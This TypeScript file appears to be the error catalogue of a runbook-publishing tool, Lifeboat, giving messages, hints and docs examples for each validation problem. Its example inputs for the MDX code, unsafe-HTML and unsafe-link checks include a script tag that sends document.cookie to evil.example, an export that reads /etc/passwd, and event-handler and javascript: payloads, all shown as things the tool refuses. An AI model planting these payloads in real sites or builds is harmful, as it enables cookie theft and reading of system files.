/**
 * The catalogue of every problem Lifeboat reports about runbooks and configuration.
 *
 * Names are permanent: people paste them into search engines and CI logs link to them. Each entry
 * carries what the docs page needs (`description`, `example`, `fix`) next to the functions that
 * phrase the message and hint, so the page and the terminal never drift apart.
 * A message says what happened and why; a hint says what to do. Neither carries the location.
 */
import type { Severity } from './issue.ts';
import { drillErrorsData } from './drill-errors-data.ts';
import { findingsData } from './findings-data.ts';
import { importErrorsData } from './import-errors-data.ts';
import { privateErrorsData } from './private-errors-data.ts';
import { publishErrorsData } from './publish-errors-data.ts';

export interface ErrorData<P> {
  /** One-line title for the docs page and the error index. */
  title: string;
  severity: Severity;
  /** A fact about the world (findings-data.ts): fails `check`, never stops a build. */
  finding?: true;
  /** Reported, but never stops a build (facts problems). */
  neverBlocksBuild?: true;
  message: (p: P) => string;
  hint?: (p: P) => string | undefined;
  /** @description Longer explanation for the docs page. */
  description: string;
  /** A minimal input that triggers it, shown on the docs page. */
  example: string;
  /** How to fix it, for the docs page. */
  fix: string;
}

const capitalize = (text: string) => text.charAt(0).toUpperCase() + text.slice(1);

const suggest = (suggestion: string | undefined, fallback?: string) =>
  suggestion ? `Did you mean "${suggestion}"?` : fallback;

const formatErrors = {
  YamlSyntax: {
    title: 'YAML syntax error',
    severity: 'error',
    message: (p: { detail: string }) => `The YAML cannot be parsed: ${p.detail}.`,
    hint: (p: { hint?: string }) =>
      p.hint ?? 'Check indentation (spaces only, no tabs) and quote values that contain ": " or start with "*", "&", "!", "{" or "[".',
    description: 'The file, or the frontmatter of an MDX runbook, is not valid YAML, so nothing else in it can be checked.',
    example: 'steps:\n  - id: drain\n     title: Drain the node   # indented one space too far',
    fix: 'Fix the syntax at the reported line; the column points at the first character the parser could not accept.',
  },
  MissingField: {
    title: 'Required field missing',
    severity: 'error',
    message: (p: { field: string; where: string; expected: string }) =>
      `${capitalize(p.where)} has no "${p.field}", which is required (${p.expected}).`,
    hint: (p: { field: string; example?: string }) =>
      p.example ? `Add \`${p.field}: ${p.example}\`.` : `Add the "${p.field}" field.`,
    description: 'A field the runbook schema requires is absent.',
    example: 'id: restore-db\ntitle: Restore the ledger database\n# no service, tier, owners, …',
    fix: 'Add the field. The JSON Schema (`runbook.schema.json`) lets your editor list the required fields.',
  },
  UnknownKey: {
    title: 'Unknown key',
    severity: 'error',
    message: (p: { key: string; where: string }) =>
      `"${p.key}" is not a field of ${p.where}, so Lifeboat would silently ignore it.`,
    hint: (p: { suggestion?: string; allowed: string }) =>
      suggest(p.suggestion, undefined) ?? `Allowed fields here: ${p.allowed}.`,
    description: 'Runbooks are strict: a misspelt key would otherwise drop information (an `expcet:` would hide the expected output).',
    example: 'steps:\n  - id: check\n    title: Check pods\n    comands: []',
    fix: 'Rename the key to the field you meant, or remove it.',
  },
  InvalidType: {
    title: 'Wrong type',
    severity: 'error',
    message: (p: { field: string; expected: string; received: string }) =>
      `${p.field} must be ${p.expected}, but it is ${p.received}.`,
    hint: (p: { hint?: string }) => p.hint,
    description: 'A field holds the wrong kind of value, for example a list where a single string is expected.',
    example: 'steps:\n  - id: scale\n    title: Scale down\n    commands:\n      - run: [kubectl, scale]',
    fix: 'Change the value to the expected type; quote strings that YAML would read as numbers, booleans or dates.',
  },
  InvalidValue: {
    title: 'Value not allowed',
    severity: 'error',
    message: (p: { field: string; detail: string }) => `${p.field} ${p.detail}.`,
    hint: (p: { suggestion?: string; allowed?: string }) =>
      suggest(p.suggestion, p.allowed ? `Allowed values: ${p.allowed}.` : 'Change it to a value this field allows; `lifeboat schema` (or `lifeboat schema --of config`) describes every field.'),
    description: 'The value has the right type but is outside what the field allows (an unknown enum value, an empty list, a number out of range).',
    example: 'tier: 7',
    fix: 'Use one of the allowed values listed in the hint.',
  },
  InvalidDuration: {
    title: 'Invalid duration',
    severity: 'error',
    message: (p: { field: string; value: string }) =>
      `${p.field} is "${p.value}", which is not a duration Lifeboat can read.`,
    hint: () => 'Write a whole number with a unit, largest first: "0", "90s", "15m", "4h", "1h30m", "2d".',
    description: 'RTO, RPO, step estimates, drill durations and escalation delays are human durations made of days, hours, minutes and seconds.',
    example: 'rto: 15 minutes',
    fix: 'Write `15m`. Units are d, h, m and s; combine them largest first (`1h30m`). Zero is `0`.',
  },
  InvalidDate: {
    title: 'Invalid date',
    severity: 'error',
    message: (p: { field: string; value: string }) =>
      `${p.field} is "${p.value}", which is not a calendar date in YYYY-MM-DD form.`,
    hint: () => 'Write the date as YYYY-MM-DD, for example "2026-11-02".',
    description: 'Dates (`lastReviewed`, drill dates) are calendar dates in ISO form, so they sort and compare correctly.',
    example: 'lastReviewed: 02/11/2026',
    fix: 'Write `lastReviewed: 2026-11-02`.',
  },
  InvalidId: {
    title: 'Invalid id',
    severity: 'error',
    message: (p: { field: string; value: string }) =>
      `${p.field} is "${p.value}", but ids become URLs and anchors, so they may hold only lowercase letters, digits and single hyphens.`,
    hint: (p: { fixed?: string }) => (p.fixed ? `Use "${p.fixed}".` : 'Use lowercase letters, digits and hyphens, starting with a letter or digit.'),
    description: 'Runbook, step and decision ids appear in URLs (`/runbooks/<id>/#step-<id>`), gotos and CI reports; they must be stable, lowercase slugs.',
    example: 'id: Restore DB',
    fix: 'Use a slug such as `restore-db`. Changing an id breaks links to it, so choose it once.',
  },
  DuplicateRunbookId: {
    title: 'Two runbooks share an id',
    severity: 'error',
    message: (p: { id: string; other: string }) =>
      `Runbook id "${p.id}" is already used by ${p.other}; ids must be unique because each becomes a page URL.`,
    hint: () => 'Rename one of the two ids (and update gotos or links that point to it).',
    description: 'Every runbook id becomes `/runbooks/<id>/`; two runbooks with one id would overwrite each other.',
    example: '# runbooks/a.yaml and runbooks/b.mdx both say\nid: restore-db',
    fix: 'Give each runbook its own id.',
  },
  DuplicateStepId: {
    title: 'Two steps or decisions share an id',
    severity: 'error',
    message: (p: { id: string; first: string }) =>
      `Id "${p.id}" is already used by ${p.first} in this runbook; step and decision ids share one namespace so gotos are unambiguous.`,
    hint: () => 'Rename one of them and update any goto that points to it.',
    description: 'Steps (in prechecks, steps, verify and rollback) and decision nodes are addressed by id from gotos and URLs, so ids must be unique within a runbook.',
    example: 'prechecks:\n  - id: check\n    title: Check access\nverify:\n  - id: check\n    title: Check pods',
    fix: 'Give each step and decision its own id.',
  },
  DanglingGoto: {
    title: 'Goto points nowhere',
    severity: 'error',
    message: (p: { goto: string; field: string }) =>
      `${p.field} goes to "${p.goto}", but no step or decision in this runbook has that id.`,
    hint: (p: { suggestion?: string; known: string }) =>
      suggest(p.suggestion, p.known ? `Known ids: ${p.known}.` : 'This runbook defines no steps or decisions to go to.'),
    description: 'A decision answer must lead somewhere the on-call can follow: a step, another decision, another runbook, or an outcome.',
    example: 'decisions:\n  - id: root\n    question: Is the API up?\n    answers:\n      - label: No\n        goto: restart-pods   # no such step',
    fix: 'Point `goto` at an existing step or decision id, use `runbook: <id>` for another runbook, or end the path with `outcome:`.',
  },
  GotoSkipsVariable: {
    title: 'Goto skips the step that sets a shell variable',
    severity: 'warning',
    message: (p: { field: string; goto: string; variable: string; setBy: string; usedBy: string }) =>
      `${p.field} goes to step "${p.goto}", past step "${p.setBy}", which sets \`$${p.variable}\`; step "${p.usedBy}" uses it, so on that path it is empty or left over from another incident.`,
    hint: (p: { setBy: string }) => `Go to step "${p.setBy}" instead, or set the variable again in the step the answer leads to.`,
    description: 'A decision answer that jumps into the steps skips everything before its target. A command that relies on a shell variable set in a skipped step runs with an empty or stale value — `velero restore create --from-backup "$BACKUP"` with no backup.',
    example: 'decisions:\n  - id: state\n    question: Is the namespace gone?\n    answers:\n      - label: "Yes"\n        goto: create-restore   # skips find-backup, which sets BACKUP',
    fix: 'Point the answer at the step that sets the variable, or set it where the answer lands.',
  },
  UnknownRunbook: {
    title: 'Link to an unknown runbook',
    severity: 'error',
    message: (p: { target: string; field: string }) =>
      `${p.field} points to runbook "${p.target}", which does not exist in this collection.`,
    hint: (p: { suggestion?: string }) => suggest(p.suggestion, 'Check the id in the other runbook\'s `id:` field.'),
    description: 'Cross-runbook links (decision answers with `runbook:`, `related:`) must resolve, or the on-call hits a dead end mid-incident.',
    example: 'related: [restore-ledgr]',
    fix: 'Use the exact id of an existing runbook.',
  },
  UnknownRunbookTarget: {
    title: 'Link to an unknown step in another runbook',
    severity: 'error',
    message: (p: { target: string; runbook: string; field: string }) =>
      `${p.field} points to "${p.target}" in runbook "${p.runbook}", which has no step or decision with that id.`,
    hint: (p: { suggestion?: string; known: string }) => suggest(p.suggestion, `Its ids: ${p.known}.`),
    description: 'A decision answer may jump to a step of another runbook (`runbook: id`, `goto: step`); the step must exist there.',
    example: 'answers:\n  - label: DNS is wrong\n    runbook: dns-failover\n    goto: flip-recordz',
    fix: 'Use an id that exists in the target runbook, or drop `goto` to link to its top.',
  },
  UnreachableDecision: {
    title: 'Decision node cannot be reached',
    severity: 'error',
    message: (p: { id: string; root: string }) =>
      `Decision "${p.id}" cannot be reached from the first decision "${p.root}", so nobody walking the tree would ever see it.`,
    hint: () => 'Add an answer that goes to it, move it into the tree, or delete it.',
    description: 'The first entry of `decisions` is the root of the tree; every other node must be reachable from it through answers.',
    example: 'decisions:\n  - id: root\n    question: Pods running?\n    answers: [{label: Yes, outcome: Done}]\n  - id: orphan\n    question: Never asked',
    fix: 'Link the node from an answer, or remove it.',
  },
  DecisionCycleWithoutExit: {
    title: 'Decision loop with no way out',
    severity: 'error',
    message: (p: { ids: string }) =>
      `Decisions ${p.ids} form a loop in which every answer leads back into the loop, so the on-call could never leave it.`,
    hint: () => 'Give one of these decisions an answer that goes to a step, an outcome, another runbook, or a decision outside the loop.',
    description: 'Loops are fine ("retry, then check again") as long as at least one answer leaves them.',
    example: 'decisions:\n  - id: a\n    question: Healthy?\n    answers: [{label: No, goto: b}]\n  - id: b\n    question: Retried?\n    answers: [{label: Yes, goto: a}]',
    fix: 'Add an exit answer, for example `{label: Still failing, goto: escalate}`.',
  },
  UnknownClusterRole: {
    title: 'Unknown cluster role',
    severity: 'error',
    message: (p: { role: string; field: string }) =>
      `${p.field} names cluster role "${p.role}", which is mapped neither in this runbook's \`clusters\` nor in the site configuration.`,
    hint: (p: { role: string; suggestion?: string; known: string }) =>
      suggest(p.suggestion, undefined) ??
      `${p.known ? `Known roles: ${p.known}. ` : ''}To map it, add \`clusters: { ${p.role}: <cluster-name> }\` to the runbook or to lifeboat.config.yaml.`,
    description: 'Commands and `requires` entries name a role (`primary`, `dr`) that must map to a cluster name whose facts Lifeboat collects.',
    example: 'commands:\n  - run: kubectl get pods\n    cluster: disaster',
    fix: 'Use a mapped role, or map it in `clusters:` (per runbook) or in `lifeboat.config.yaml` (site default).',
  },
  UnresolvedPlaceholder: {
    title: 'Placeholder has no value',
    severity: 'error',
    message: (p: { name: string; field: string }) =>
      `${p.field} uses {{ ${p.name} }}, but no variable of that name is defined, so the copied command would contain the placeholder literally.`,
    hint: (p: { suggestion?: string; known: string }) =>
      suggest(p.suggestion, undefined) ??
      `Define it under \`vars:\` in the runbook or the site configuration${p.known ? ` (known: ${p.known})` : ''}. For values chosen during the incident use a shell variable such as "$BACKUP" instead.`,
    description: 'Placeholders `{{ name }}` are filled in at build time from `vars` (runbook, then site) and `cluster.<role>`, so the on-call copies a ready command.',
    example: 'vars: { ns: payments }\nsteps:\n  - id: s\n    title: List pods\n    commands:\n      - run: kubectl -n {{ namespace }} get pods',
    fix: 'Define the variable or correct its name.',
  },
  MdxSyntax: {
    title: 'MDX syntax error',
    severity: 'error',
    message: (p: { detail: string }) => `The MDX cannot be compiled: ${p.detail}.`,
    hint: (p: { hint?: string }) =>
      p.hint ?? 'Close every component tag (`<Step …>` needs `</Step>` or `/>`), and escape literal "<" and "{" in prose as "&lt;" and "\\{".',
    description: 'The MDX body does not parse, so the page cannot be rendered.',
    example: '<Step id="drain" title="Drain">\nkubectl drain node-1\n',
    fix: 'Fix the syntax at the reported position.',
  },
  MdxUnknownComponent: {
    title: 'Unknown MDX component',
    severity: 'error',
    message: (p: { name: string }) =>
      `<${p.name}> is neither a Lifeboat component nor imported in this file, so the page would fail to render.`,
    hint: (p: { suggestion?: string; known: string }) =>
      suggest(p.suggestion, `Lifeboat components: ${p.known}. Import any other component at the top of the file.`),
    description: 'MDX runbooks may use `<Step>`, `<Command>`, `<Expect>` and `<Decision>` without importing them; any other component must be imported.',
    example: '<Stpe id="drain" title="Drain the node">…</Stpe>',
    fix: 'Correct the name or add an `import` line.',
  },
  MdxInvalidComponent: {
    title: 'Lifeboat component used incorrectly',
    severity: 'error',
    message: (p: { component: string; detail: string }) => `<${p.component}> ${p.detail}.`,
    hint: (p: { hint?: string }) => p.hint,
    description: 'Lifeboat components carry runbook data (ids, commands, expected output) that checks and the printed binder read statically, so their attributes must be plain values, not expressions, and their content must have the documented shape.',
    example: '<Command cluster="dr">\nkubectl get pods   (not inside a fenced code block)\n</Command>',
    fix: 'Follow the shape in the hint, for example wrap the command in a fenced ```sh block.',
  },
  MdxCodeNotAllowed: {
    title: 'Code in an MDX runbook',
    severity: 'error',
    message: (p: { what: string }) =>
      `${capitalize(p.what)} would run as code when the site is built, and MDX runbooks are content unless the configuration allows code.`,
    hint: (p: { hint?: string }) =>
      `${p.hint ? `${p.hint} ` : ''}If every author of every runbook may run code in your builds, set \`mdx: { allowCode: true }\` in lifeboat.config.yaml.`,
    description:
      'An MDX file is a program: an `export`, an `{expression}` or an expression attribute runs with the rights of whoever builds the site, CI secrets included. Lifeboat reads MDX runbooks as content: Markdown, Lifeboat\'s components and imported components with plain attributes. `lifeboat build` refuses the runbook until it is content, or until `mdx.allowCode` is on.',
    example: 'export const owner = (await import("node:fs")).readFileSync("/etc/passwd", "utf8");\n\nOwned by {owner}.',
    fix: 'Write the value out as text, or as a plain attribute (`title="…"`, `{true}`, `{false}`). `{/* comments */}` are allowed.',
  },
  MdxImportNotAllowed: {
    title: 'MDX import from a module that is not allowed',
    severity: 'error',
    message: (p: { specifier: string }) =>
      `"${p.specifier}" is not in \`mdx.imports\`, and an import runs that module's code when the site is built.`,
    hint: (p: { allowed: string }) =>
      `MDX runbooks may import components from: ${p.allowed}. Add this module (or its folder, ending in "/") to \`mdx.imports\` in lifeboat.config.yaml if it is yours to trust.`,
    description:
      'Only the modules listed in `mdx.imports` (Starlight\'s components by default; files and folders relative to the configuration file) may be imported, with `import Name from "…"` or `import { Name } from "…"`. A side-effect import, a dynamic `import()` or an import of anything else runs code during the build.',
    example: 'import fs from "node:fs";',
    fix: 'Remove the import, or add the component module to `mdx.imports`.',
  },
  MdxImportNotFound: {
    title: 'MDX import of a missing file',
    severity: 'error',
    message: (p: { specifier: string; detail: string }) => `"${p.specifier}" cannot be found: ${p.detail}, so the page cannot be built.`,
    hint: () => 'Paths in imports are relative to the runbook file: check the number of "../" and the file name, extension included. A package must be installed in the project (`npm install`).',
    description: 'A relative import must name an existing file, and a package import an installed package; `check` looks for them so that `build` does not fail on them later.',
    example: "import OnCallNote from '../components/OnCallNot.astro';",
    fix: 'Correct the path, or add the component.',
  },
  MdxImportUnknownName: {
    title: 'MDX import of a name the module does not export',
    severity: 'error',
    message: (p: { specifier: string; name: string }) =>
      p.name === 'default'
        ? `"${p.specifier}" has no default export, so the page cannot be built.`
        : `"${p.specifier}" does not export "${p.name}", so the page cannot be built.`,
    hint: (p: { suggestion?: string; known: string }) => suggest(p.suggestion, p.known ? `It exports: ${p.known}.` : 'Import its default export: `import Name from "…"`.'),
    description: 'Each name in an import must be one the module exports; `check` reads the module\'s exports without running it so that `build` does not fail later.',
    example: "import { Asdie } from '@astrojs/starlight/components';",
    fix: 'Correct the name (component names are case-sensitive).',
  },
  MdxUnsafeHtml: {
    title: 'Unsafe HTML in an MDX runbook',
    severity: 'error',
    message: (p: { fragment: string }) =>
      `\`${p.fragment}\` holds HTML or a link target that the site does not render from runbooks (scripts, event handlers, frames, \`javascript:\` and \`data:\` links).`,
    hint: () =>
      'Use Markdown, an allowed element (b, i, kbd, details, summary, table, …) without event handlers, or an http(s), mailto or relative link. To trust raw HTML, set `markdown: { allowHtml: true }` in lifeboat.config.yaml.',
    description:
      'HTML elements in MDX become part of the page as they are written, so they are held to the same allowlist as Markdown in YAML runbooks. YAML Markdown is cleaned on render (and `check` warns with RawHtmlRemoved); MDX is compiled as written, so the runbook is refused instead.',
    example: '<details open ontoggle="alert(document.cookie)">…</details>',
    fix: 'Remove the attribute or element, or write it as Markdown.',
  },
  RawHtmlRemoved: {
    title: 'Raw HTML removed from Markdown',
    severity: 'warning',
    message: (p: { field: string; fragment: string }) =>
      `The Markdown in ${p.field} holds \`${p.fragment}\`; the site renders Markdown without scripts, event handlers, frames and styles, so this is removed from the page, the offline edition and the binder.`,
    hint: () => 'Write it as Markdown or with allowed elements (b, i, kbd, details, summary, table, …). If every runbook author is trusted, `markdown: { allowHtml: true }` in lifeboat.config.yaml renders raw HTML unchanged.',
    description: 'Runbooks are often imported from elsewhere and the site is public, so Markdown is sanitized against an allowlist (GitHub\'s). The runbook still builds; the warning says what the reader will not see.',
    example: 'steps:\n  - id: check\n    title: Check\n    body: <script>fetch("https://evil.example/?" + document.cookie)</script>',
    fix: 'Remove the HTML, or rewrite it with Markdown or allowed elements.',
  },
  UnsafeLinkRemoved: {
    title: 'Unsafe link target removed from Markdown',
    severity: 'warning',
    message: (p: { field: string; fragment: string }) =>
      `The Markdown in ${p.field} links to \`${p.fragment}\`; only http, https, mailto and relative targets are kept, so the link is rendered without it.`,
    hint: () => 'Link to an http(s) page instead; `javascript:` and `data:` targets run or show content chosen by whoever wrote the runbook.',
    description: 'Link and image targets in Markdown are kept only for safe protocols. A `javascript:` link runs script when clicked, on the page and in the printed binder\'s link annotations.',
    example: 'body: "[Open the dashboard](javascript:alert(document.domain))"',
    fix: 'Use an https link.',
  },
  FrontmatterMissing: {
    title: 'MDX runbook has no frontmatter',
    severity: 'error',
    message: (_: object) => 'An MDX runbook must start with a YAML frontmatter block between two "---" lines that holds id, title, service and the other runbook fields.',
    hint: (_: object) => 'Start the file with "---", the runbook fields, and another "---" line.',
    description: 'MDX runbooks use the same schema as YAML runbooks; the frontmatter carries it.',
    example: '# Restore the ledger\n\n<Step …>',
    fix: 'Add a frontmatter block at the very top of the file.',
  },
  IgnoredFile: {
    title: 'File is not a runbook',
    severity: 'warning',
    message: (p: { ext: string }) => `Files ending in "${p.ext}" are not read as runbooks — skipping this file.`,
    hint: () => 'Rename it to .yaml, .yml or .mdx to publish it, or move it out of the runbooks folder.',
    description: 'Only `.yaml`, `.yml` and `.mdx` files are runbooks. A `.md` file is most likely a runbook with the wrong extension.',
    example: 'runbooks/restore-db.md',
    fix: 'Rename it to `.mdx` (and check its frontmatter) or move it elsewhere.',
  },
  RunbookTooLarge: {
    title: 'Runbook file too large',
    severity: 'error',
    message: (p: { megabytes: string; limit: string }) => `The file is ${p.megabytes} MB, and runbooks are read up to ${p.limit} MB — skipping this file.`,
    hint: () => 'Split it into several runbooks, or move long output samples out of it: a runbook has to open at once on a phone.',
    description: 'A runbook larger than 1 MB is almost certainly not one (a log or a dump saved with the wrong name), and reading it would slow every check and build.',
    example: 'runbooks/restore-db.yaml   # 20 MB',
    fix: 'Split the runbook, or move the file out of the runbooks folder.',
  },
  InvalidEncoding: {
    title: 'File is not UTF-8',
    severity: 'error',
    message: () => 'The file is not valid UTF-8: the bytes here are not part of any character, and the page would show "�" for them.',
    hint: () => 'Save the file as UTF-8 (in most editors: "Save with encoding"); a Latin-1 or Windows-1252 file is the usual cause.',
    description: 'Runbooks are read as UTF-8. Bytes that are not UTF-8 would otherwise be replaced silently, and a command with such a character could not be copied correctly.',
    example: 'title: Restore café payments   # saved as Latin-1: "é" is the single byte 0xE9',
    fix: 'Convert the file to UTF-8, e.g. `iconv -f latin1 -t utf-8`.',
  },
  ControlCharacter: {
    title: 'Control character in a runbook',
    severity: 'error',
    message: (p: { name: string }) => `The file holds a ${p.name} character here, which YAML and HTML do not allow and which would reach the page as a raw byte.`,
    hint: () => 'Delete it: it usually comes from pasting terminal output (colour codes) or part of a binary file. In a double-quoted YAML string, write it as an escape such as "\\x1b" if you really need it.',
    description: 'Control characters other than tab and line breaks (NUL, escape, …) are invisible in editors and invalid in YAML and HTML.',
    example: 'title: Restore payments   # with a raw NUL byte (shown by editors as ^@ or not at all) after "Restore"',
    fix: 'Remove the character; `grep -nP "[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f]"` finds them.',
  },
  SkippedLink: {
    title: 'Symbolic link skipped',
    severity: 'warning',
    message: (p: { why: string }) => `This symbolic link ${p.why} — skipping it.`,
    hint: () => 'Point the link at a runbook file or a folder outside this one, or remove it.',
    description: 'Links in the runbooks folder are followed, once each: a link that loops back into a folder already read, or that points at nothing, is skipped.',
    example: 'runbooks/loop -> runbooks/',
    fix: 'Remove or repoint the link.',
  },
  NoRunbooks: {
    title: 'No runbooks found',
    severity: 'error',
    message: (p: { dir: string }) => `No .yaml, .yml or .mdx runbooks were found in "${p.dir}", so there is nothing to check or publish.`,
    hint: () => 'Point --runbooks (or LIFEBOAT_RUNBOOKS, or `runbooks:` in lifeboat.config.yaml) at the folder that holds your runbooks.',
    description: 'The runbooks folder is empty or does not exist.',
    example: 'lifeboat check --runbooks ./does-not-exist',
    fix: 'Use the right folder.',
  },
  FactsInvalid: {
    title: 'Facts snapshot cannot be used',
    severity: 'error',
    neverBlocksBuild: true,
    message: (p: { detail: string }) => `This facts snapshot is not valid: ${p.detail} — ignoring it, so this cluster's facts count as unknown.`,
    hint: (p: { hint?: string }) => p.hint ?? 'Collect it again with `lifeboat facts --context <context>=<cluster>`; do not edit snapshots by hand.',
    description: 'A file in the facts folder does not match the snapshot format (a hand edit, a truncated write, a snapshot from a newer Lifeboat). It is ignored rather than trusted.',
    example: '{ "version": 1, "cluster": "dr-euc1", "kinds": { "storageClasses": { "status": "ok" } } }',
    fix: 'Re-collect the snapshot, or delete the file.',
  },
  FactUnavailable: {
    title: 'Fact not available',
    severity: 'warning',
    message: (p: { name: string; field: string; why: string }) =>
      `${p.field} uses {{ ${p.name} }}, but ${p.why}, so the page shows a marked placeholder instead of a value.`,
    hint: () => 'Collect facts for that cluster (`lifeboat facts`), or grant the collector read access to that kind.',
    description: 'A `{{ facts.<role>.… }}` placeholder names a real fact, but the snapshot cannot provide it: no snapshot for the cluster, the kind was forbidden or absent, or (for the newest backup) no backup of that schedule completed.',
    example: 'run: velero restore create --from-backup {{ facts.dr.lastBackup.payments-hourly }}',
    fix: 'Collect facts, fix the RBAC of the collector, or check the schedule.',
  },
  ConfigInvalid: {
    title: 'Invalid configuration',
    severity: 'error',
    message: (p: { detail: string }) => `The configuration is not valid: ${p.detail}.`,
    hint: (p: { hint?: string }) => p.hint ?? 'node_modules/lifeboat/docs/configuration.md lists every setting; `lifeboat schema --of config` prints them for an editor.',
    description: 'A setting in lifeboat.config.yaml, an environment variable or a flag has a value Lifeboat cannot use. Commands exit with code 2.',
    example: 'out: ""',
    fix: 'Correct the setting named in the message.',
  },
  SiteNotBuilt: {
    title: 'No built site to print',
    severity: 'error',
    message: (p: { dir: string; detail: string }) =>
      `The binder is printed from the built site, but "${p.dir}" ${p.detail}, so there is nothing to print.`,
    hint: () =>
      'Run `lifeboat build` first, or point --out (or LIFEBOAT_OUT, or `out:` in lifeboat.config.yaml) at the folder the site was built into.',
    description: '`lifeboat pdf` prints the runbook pages of a finished build (it never renders runbooks itself), so the output folder must hold a complete build with its `lifeboat-manifest.json`.',
    example: 'lifeboat pdf --out ./not-built-yet',
    fix: 'Build the site into that folder, or use the folder it was built into.',
  },
  ChromiumNotFound: {
    title: 'Chromium not found',
    severity: 'error',
    message: (p: { looked: string }) => `The binder is printed by headless Chromium, and no Chromium executable was found (looked at ${p.looked}).`,
    hint: () =>
      'Install it with `apt-get install -y chromium` (Debian/Ubuntu; `npm run setup` does this), or set CHROMIUM_PATH to a Chromium or Chrome executable.',
    description: 'Lifeboat uses the system Chromium (or Chrome) through playwright-core and never downloads a browser, so the binder can be printed on a machine without network.',
    example: 'CHROMIUM_PATH=/opt/missing/chrome lifeboat pdf',
    fix: 'Install Chromium, or point CHROMIUM_PATH at an existing executable.',
  },
  PrintFailed: {
    title: 'Printing the binder failed',
    severity: 'error',
    message: (p: { detail: string }) => `Chromium could not print the binder: ${p.detail} — the previous PDFs were left untouched.`,
    hint: (p: { hint?: string }) => p.hint ?? 'Run `lifeboat build` again (a half-copied or hand-edited output folder is the usual cause), then `lifeboat pdf`.',
    description: 'The browser started but a page could not be loaded, laid out or printed. Nothing is written until every PDF is complete.',
    example: 'a runbook page deleted from dist/ after the build',
    fix: 'Rebuild the site, then print again.',
  },
} as const satisfies Record<string, ErrorData<never>>;

/** Every code Lifeboat reports: format errors, facts problems, findings, publishing, import, drill-record and passphrase problems. */
export const errorsData = { ...formatErrors, ...findingsData, ...publishErrorsData, ...importErrorsData, ...drillErrorsData, ...privateErrorsData };

/** Stable names of every problem Lifeboat reports. */
export type ErrorCode = keyof typeof errorsData;

/** The parameters each code's message and hint need. */
export type ErrorParams<C extends ErrorCode> = Parameters<(typeof errorsData)[C]['message']>[0] &
  ((typeof errorsData)[C] extends { hint: (p: infer H) => unknown } ? H : unknown);
